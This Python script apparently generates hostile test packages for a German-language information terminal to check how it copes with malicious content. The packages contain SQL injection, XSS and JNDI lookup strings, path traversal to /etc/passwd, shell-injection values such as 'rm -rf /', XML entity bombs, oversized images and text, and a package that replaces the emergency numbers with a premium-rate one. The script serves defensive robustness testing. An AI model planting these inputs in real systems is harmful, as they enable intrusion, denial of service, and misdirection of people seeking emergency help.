#!/usr/bin/python3
"""Writes the records of packages land/by that want to do harm: hostile_records.py FOLDER [each]

FOLDER/taken/<name>    a terminal takes them and shows wrong text at worst
FOLDER/all             all of these in one
FOLDER/refused/<name>  a terminal refuses them; without "each" only some
FOLDER/emergency       everything that could stand in for the numbers of an emergency
In each: records/<key, percent-encoded>, and tour: steps from the home screen.
"""

import json
import os
import random
import struct
import sys
import urllib.parse

from hostile_fonts import make_fonts

FOLDER = sys.argv[1]
EACH = len(sys.argv) > 2
SOME = ("15 MB of brackets", "a guide of 100,000 questions", "messages within messages")
MOST = 2147483647
TOPICS = ("residence", "work", "recognition", "german", "jobs", "training", "rights")
taken, refused = {}, {}


def paragraph(text, spans=()):
    return {"id": "1/1", "kind": "paragraph", "text": text, "spans": list(spans)}


def text_of(title, *blocks):
    return {"title": title, "state": "reviewed", "blocks": list(blocks)}


class Package:
    def __init__(self):
        self.topic = "work"
        self.files = {}
        self.json = {"package": {"id": "land/by", "default_language": "de", "languages": ["de"], "as_of": "2026-11-22"}}
        self.page("unser-land", text_of("Unser Land", paragraph("Ein Text.")), order=100)

    def page(self, slug, text, **facts):
        """An article in front of all others of its topic."""
        self.json["article/" + slug] = {"order": -1000, "topic": self.topic, **facts}
        self.json[f"article/{slug}/de"] = text

    def picture(self, slug, ending, bytes_):
        image = {"id": "1/1", "kind": "image", "text": "Ein Bild", "media": f"{slug}.{ending}"}
        self.page(slug, text_of("Bild " + slug, image, paragraph("darunter")))
        self.files[f"media/{slug}.{ending}"] = bytes_ if isinstance(bytes_, bytes) else bytes_.encode()

    def rows(self, key, *rows):
        self.json.setdefault(key, {"rows": []})["rows"].extend(rows)

    def strings(self, language, **strings):
        self.json.setdefault("strings/" + language, {"strings": {}})["strings"].update(strings)

    def language(self, tag, family, font=None, **facts):
        """A language whose tile on the first screen is set in this font."""
        self.json["package"]["languages"].append(tag)
        self.rows("languages", {"tag": tag, "endonym": "Welcome abc", "greeting": "Willkommen", "fonts": [family],
                                "fallback": [tag, "zz", "de"], "voice": "../../../../etc/passwd", "digits": "../../x",
                                "calendar": "x;DROP", **facts})
        if font:
            self.rows("fonts", *({"family": family, "file": family + ".ttf", "weight": weight, "position": 1}
                                 for weight in (400, 700)))
            self.files[f"font/{family}.ttf"] = font

    def write(self, folder, tour):
        records = os.path.join(folder, "records")
        os.makedirs(records)
        made = {key: json.dumps(value, ensure_ascii=False, separators=(",", ":")).encode("utf-8", "surrogatepass")
                for key, value in self.json.items()}
        for key, bytes_ in {**made, **self.files}.items():
            with open(os.path.join(records, urllib.parse.quote(key, safe="")), "wb") as file:
                file.write(bytes_)
        with open(os.path.join(folder, "tour"), "w", encoding="utf-8") as file:
            file.write(tour)


def take(name, tour=None):
    """Without a tour the hostility has a page of its name."""
    page = f"tap topic.work\ntap article.{name}\nexpect article.title\nshot {name}\nscroll 3000\nscroll -9000\n"
    return lambda plant: taken.update({name: (plant, tour if tour is not None else page)})


def refuse(name):
    return lambda plant: refused.update({name: plant})


def guide_text(title, **answers):
    return {"title": title, "state": "reviewed",
            "nodes": {node: {"title": "Frage " + node, "answers": words} for node, words in answers.items()}}


def nested(depth):
    return "{n,select,other{" * depth + "x" + "}}" * depth


# Words.

SQL = "'); DROP TABLE article; DELETE FROM media; -- \" OR 1=1"


@take("sql", "tap nav.search\ntype \"'); drop table article;-- OR NEAR( * quokkasql\"\nexpect search.field\ntap nav.home\n"
      "tap topic.work\ntap article.sql\nexpect article.title\n")
def sql(package):
    text = text_of(SQL, paragraph(SQL + " quokkasql"))
    text.update(summary="NEAR(\"a\" * , 5) AND NOT title:x ^", keywords=[SQL, "quokkasql", "\"*\" OR body MATCH 'x'"])
    package.page("sql", text, sources=[SQL], contacts=["x'||(SELECT-1)"], icon="a';--")
    package.page("x'); DROP TABLE block;--", text, order=900)
    package.rows("contacts", {"id": "x'||(SELECT-1)", "name": SQL, "phone": SQL})
    package.rows("values", {"id": "v'", "min": SQL, "max": SQL, "unit": SQL})
    package.strings("de'--", x=SQL)


SCRIPT = ("<script>alert(1)</script><img src=x onerror=alert(1)> {value:minwage}{contact:notruf_112}[[x]]"
          "${jndi:ldap://192.0.2.1/a}%n%s\\")


@take("script", "tap topic.work\ntap article.script\nexpect article.title\nscroll 400\nexpect contact.skript\n"
      "scroll -9000\ntap article.take\nexpect take.code\ntap nav.close\n")
def script(package):
    text, spans = SCRIPT, []
    for target in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,<script>", "http://192.0.2.1/",
                   "tel:;rm -rf /", "article:../../etc/passwd", "mailto:a@b?attach=/etc/passwd"):
        spans.append(["link", len(text.encode()), 4, target])
        text += "hier "
    package.page("script", text_of(SCRIPT, paragraph(text, spans)), contacts=["skript"])
    package.rows("contacts", {"id": "skript", "name": SCRIPT, "phone": "javascript:alert(1)", "web": "file:///etc/passwd",
                              "mail": "$(touch /tmp/zugang-was-here)", "hours": SCRIPT})


OPEN = "\u202e\u2066\u2067\u202b\u2068" * 60 + "\u200b\u200d\ufeff"


@take("bidi")
def bidi(package):
    text = OPEN + "Rufen Sie 011 an \ufffc"
    package.page("bidi", text_of(OPEN + "Titel", paragraph(text, [["contact", len(text.encode()) - 3, 3, "notruf_110"]])),
                 contacts=["verdreht"])
    package.rows("contacts", {"id": "verdreht", "name": OPEN + "ieziloP", "phone": "\u202e011"})
    package.rows("places", {"id": "verdreht", "name": OPEN, "kind": OPEN, "city": OPEN, "land": "by", "postcode": "1",
                            "street": "\u202e011", "phone": "\u202e011"})
    package.strings("de", **{"topic.work": OPEN + "Arbeit", "nav.help": OPEN})


@take("marks")
def marks(package):
    count = 10_000
    package.page("marks", text_of("Marken", paragraph(
        "ab" * count, [["bold" if i % 2 else "term", i, 2 * (count - i), "x"] for i in range(count)])))


@take("kreis-tor")
def cycle_of_pages(package):
    package.page("kreis-tor", text_of("Tor", paragraph("in den Kreis", [["link", 0, 12, "article:kreis"]])), related=["kreis"])
    package.page("kreis", text_of("Kreis", paragraph("rund", [["link", 0, 4, "article:kreis"]])), parent="kreis-b",
                 related=["kreis", "kreis-b"])
    package.page("kreis-b", text_of("Kreis b", paragraph("rund")), parent="kreis", related=["kreis"])


@take("zahlen")
def numbers(package):
    text, spans = "", []
    for number, written in enumerate(("1e999999999", "-1e-999999999", "9" * 32, "0x10", "nan", "1.5.5", "", "١٢٣")):
        for unit in ("EUR", "percent", "plain", "month"):
            name = f"zahl-{number}-{unit}"
            package.rows("values", {"id": name, "min": written, "max": written, "unit": unit})
            spans.append(["value", len(text.encode()), 3, name])
            text += "\ufffc "
    package.json["package"]["as_of"] = "2999-12-31"  # the day that a terminal goes by, for everything
    step = {"id": "1/2", "kind": "step", "number": MOST, "level": 1000000, "text": "Schritt"}
    package.page("zahlen", text_of("Zahlen", paragraph(text, spans), step), phase=MOST)


@take("rundum", "tap guide.rundum\nexpect guide.question\n" + "tap answer.1\nexpect guide.question\n" * 5)
def cycle_of_questions(package):
    def node(name, *nexts):
        return {"id": name, "answers": [{"next": to} for to in nexts]}
    package.json["guide/rundum"] = {"start": "a", "order": -1, "nodes": [node("a", "b", "a"), node("b", "a", "b")]}
    package.json["guide/rundum/de"] = guide_text("Rundum", a=["nach b", "nach a"], b=["nach a", "nach b"])


@take("menge", "tap nav.advice\nexpect land.by\n")
def crowd(package):
    for i in range(3000):
        name = f"menge-{i}"
        package.rows("contacts", {"id": name, "name": name, "phone": "1"})
        package.rows("places", {"id": name, "name": name, "kind": "mbe", "street": "S 1", "postcode": "1", "city": "C",
                                "land": "by", "hours": "Mo-Fr 00:00-24:00; " * 20, "position_e6": [48000000 + i, 10000000]})


@take("sprachen", "")
def languages(package):
    for i in range(150):
        tag = f"q{i}" + ("/../x" if i % 2 else "-\u202e'")
        package.language(tag, "noto-sans", endonym=tag, line_height_percent=MOST, rtl=True)


@take("tastatur", "tap nav.search\nexpect key.space\ntap nav.home\n")
def keyboard(package):
    keys = [["\u202e" + str(i), "'", "x" * 200] for i in range(200)]
    for tag in ("de", "x-tasten"):
        package.json["keyboard/" + tag] = {"layout": "../../x", "script": "'--", "rows": [keys] * 20}
    package.language("x-tasten", "x")


# Files.

def svg(width, height, inside):
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}">{inside}</svg>'


@take("striche")
def dashes(package):
    package.picture("striche", "svg", svg(100, 100, '<path d="M0 0L1000000 1000000" stroke="#000" '
                                          'stroke-dasharray="0.0001 0.0001"/>'))


@take("strichstil")
def dashes_by_style(package):
    package.picture("strichstil", "svg", svg(100, 100, "<style>.a{stroke:#000;stroke-dasharray:0.0001,0.0001}</style>"
                                             '<g transform="scale(1000)"><path class="a" d="M0 0L1000 1000"/></g>'))


@take("weit")
def large_drawing(package):
    package.picture("weit", "svg", svg(20000, 20000, '<rect width="20000" height="20000" fill="#123"/>'))


@take("weiter")
def larger_drawing(package):
    package.picture("weiter", "svg", svg(100000, 100000, '<rect width="9" height="9"/>'))


@take("kurven")
def curves(package):
    path = "M0 0" + "C9999999 0 0 9999999 -9999999 -9999999" * 12_000
    package.picture("kurven", "svg", svg(100, 100, f'<path d="{path}" stroke="#000" stroke-width="99999" '
                                         'stroke-linejoin="round"/>'))


@take("verweise")
def links_out(package):
    package.picture("verweise", "svg", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
                    '"&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg(10, 10, "<script>alert(1)</script>"
                    '<image href="file:///etc/passwd" width="9" height="9"/><text>&x;&b;</text>'))


@take("zeichen")
def pictogram(package):
    package.files["pictogram/briefcase.svg"] = svg(24, 24, '<path d="M0 0L99999999 99999999" stroke="#fff" '
                                                   'stroke-dasharray="0.00002 0.00001"/>').encode()
    package.json["package"]["pictograms"] = ["briefcase"]
    package.page("zeichen", text_of("Zeichen", paragraph("mit Zeichen")), icon="briefcase")


def plain_webp(width, height):
    """Without loss, in one colour: some bytes for any number of pixels (WebP Lossless Bitstream Specification)."""
    bits = [(width - 1) >> i & 1 for i in range(14)] + [(height - 1) >> i & 1 for i in range(14)]
    bits += [0] * 4 + [0] * 3  # opaque, version 0; no transform, no colour cache, one group of codes
    bits += [1, 0, 0, 0] * 5   # each code is simple: one symbol of one bit, 0
    body = b"\x2f" + bytes(sum(bit << i for i, bit in enumerate(bits[at:at + 8])) for at in range(0, len(bits), 8))
    body += bytes(8 + len(body) % 2)
    return b"RIFF" + struct.pack("<L", 12 + len(body)) + b"WEBPVP8L" + struct.pack("<L", len(body)) + body


@take("gross")
def large_picture(package):
    package.picture("gross", "webp", plain_webp(16383, 16383))


@take("gelogen")
def lying_picture(package):
    body = plain_webp(10, 10)[12:]
    head = b"VP8X" + struct.pack("<L", 10) + bytes(4) + (99999).to_bytes(3, "little") * 2
    package.picture("gelogen", "webp", b"RIFF" + struct.pack("<L", 4 + len(head) + len(body)) + b"WEBP" + head + body)


@take("aufnahme", "tap topic.work\ntap article.aufnahme\nexpect article.title\nheadphones in\nwait 3000\nheadphones out\n")
def recording(package):
    text = text_of("Aufnahme", paragraph("Ein Text zum Hören."))
    text["recordings"] = [{"block": "1/1", "duration_ms": MOST, "loudness_tenths": -MOST,
                           "words": [[0, MOST, 0, MOST], [5, 1, 4000000, 7]]}, {"block": "title", "duration_ms": 1}]
    package.page("aufnahme", text)
    package.files["speech/de/aufnahme/1/1.opus"] = b"OggS" + b"\0\x02\xff" * 5000
    package.files["speech/de/aufnahme/title.opus"] = b"OggS"


fonts = make_fonts()


def font_bomb(name, font):
    taken["schrift-" + name] = (lambda package: package.language("x-" + name, "hostile-" + name, font), "")


for font_name, font_bytes in fonts.items():
    font_bomb(font_name, font_bytes)


# More than a terminal takes.

@refuse("a block of 10 MB")
def block(package):
    package.page("block", text_of("Block", paragraph("Wort " * 2_000_000)))


@refuse("100,000 blocks")
def blocks(package):
    package.page("absaetze", text_of("Absätze", *[paragraph("x")] * 100_000))


@refuse("an article of 15 MB")
def article(package):
    package.page("artikel", text_of("Artikel", *[paragraph("Wort " * 12_000)] * 250))


@refuse("30,000 nested marks")
def more_marks(package):
    package.page("marken", text_of("Marken", paragraph("ab" * 30_000, [["bold", 0, 60_000 - i] for i in range(30_000)])))


@refuse("a title of 1 MB")
def title(package):
    package.page("titel", text_of("Titel " * 170_000, paragraph("x")))


@refuse("15 MB of brackets")
def brackets(package):
    package.page("klammern", text_of("Klammern", paragraph("x")))
    # Not one byte again and again: no frame that says 20,000 times its own size is unpacked.
    chance = random.Random(1)
    package.files["article/klammern/de"] = "".join(chance.choice("[{") for _ in range(1000)).encode() * 15_000
    del package.json["article/klammern/de"]


@refuse("a guide of 100,000 questions")
def long_guide(package):
    nodes = [{"id": str(i), "answers": [{"next": str(i + 1)}]} for i in range(100_000)]
    package.json["guide/lang"] = {"start": "0", "nodes": nodes}
    package.json["guide/lang/de"] = guide_text("Lang", **{str(i): ["!"] for i in range(1000)})


@refuse("a question with 10,000 answers")
def broad_guide(package):
    package.json["guide/breit"] = {"start": "a", "nodes": [{"id": "a", "answers": [{"next": "a"}] * 10_000}]}
    package.json["guide/breit/de"] = guide_text("Breit", a=["x"] * 10_000)


@refuse("messages within messages")
def messages(package):
    package.strings("de", **{"session.seconds": nested(20_000), "unit.month": nested(20_000)})


@refuse("an interface string of 60 kB")
def long_string(package):
    package.strings("de", **{"topic.work": "Arbeit " * 9000})


@refuse("10,000 languages")
def many_languages(package):
    package.rows("languages", *({"tag": f"q{i}", "endonym": f"q{i}"} for i in range(10_000)))


@refuse("100,000 topics")
def many_topics(package):
    package.json["topics"] = {"topics": [{"id": f"t{i}", "icon": "x"} for i in range(100_000)]}


def false_emergency(package):
    package.rows("contacts", {"id": "notruf_112", "name": "Notruf", "phone": "0900 112", "emergency": True},
                 {"id": "notruf_110", "name": "Polizei", "phone": "\u202e011"},
                 {"id": "hilfetelefon_frauen", "removed": True})
    words = "\u202e" + "Rufen Sie 0900 112 an. " * 50
    package.strings("de", **{key: words for key in (
        "emergency.medical", "emergency.police", "help.emergency", "help.title", "help.ask", "help.ask_detail", "help.how",
        "help.how_touch", "trust.about", "privacy.text")})
    result = {"id": "a", "kind": "result", "discreet": True, "contacts": ["notruf_110"]}
    for guide in ("where-do-i-go", "falsch"):
        package.json["guide/" + guide] = {"start": "a", "crisis": True, "nodes": [result]}
        package.json[f"guide/{guide}/de"] = guide_text("Rufen Sie 0900 112 an", a=[])
    package.page("notfall-gewalt", text_of("Rufen Sie 0900 112 an", paragraph("0900 112")))
    package.language("de", "falsch", fonts["giant"], endonym="Deutsch", rtl=True, digits="arabext")
    for family in ("noto-sans", "falsch"):
        for weight in (100, 400, 500, 600, 700, 900):
            for italic in (False, True):
                package.rows("fonts", {"family": family, "weight": weight, "italic": italic, "file": "falsch.ttf",
                                       "position": -1})
    package.json["package"]["fonts"] = ["falsch", "noto-sans"]


for name, (plant, tour) in taken.items() if EACH else ():
    one = Package()
    plant(one)
    one.write(os.path.join(FOLDER, "taken", name), tour)
# Three pages a topic, so that each can be touched.
everything = Package()
steps = ""
for number, (plant, tour) in enumerate(taken.values()):
    everything.topic = TOPICS[number // 3 % len(TOPICS)]
    plant(everything)
    steps += "tap nav.home\n" + tour.replace("topic.work", "topic." + everything.topic) if tour else ""
everything.write(os.path.join(FOLDER, "all"), steps)
for name, plant in refused.items():
    if not EACH and name not in SOME:
        continue
    one = Package()
    plant(one)
    one.write(os.path.join(FOLDER, "refused", name.replace(" ", "-")), "")
one = Package()
false_emergency(one)
one.write(os.path.join(FOLDER, "emergency"), "")
